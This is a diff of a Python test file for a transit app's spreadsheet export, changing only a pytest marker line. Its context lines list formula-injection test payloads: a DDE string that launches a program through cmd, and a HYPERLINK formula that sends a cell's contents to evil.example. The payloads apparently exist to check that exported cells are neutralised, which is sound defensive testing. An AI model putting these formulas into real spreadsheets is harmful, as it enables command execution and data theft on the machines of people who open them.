@@ -12,7 +12,7 @@ from tests.features import registered
 from transit.models import Operator, Service
 from transit.publishing.sheets import cell
 
-pytestmark = [pytest.mark.django_db, pytest.mark.db]
+pytestmark = pytest.mark.django_db
 CALC = "cmd|' /C calc'!A0"
 FORMULAS = [
     f"={CALC}", '=HYPERLINK("https://evil.example?x="&A1,"click")', f"+1+{CALC}", f"-2+3+{CALC}", f"@SUM(1+1)*{CALC}",
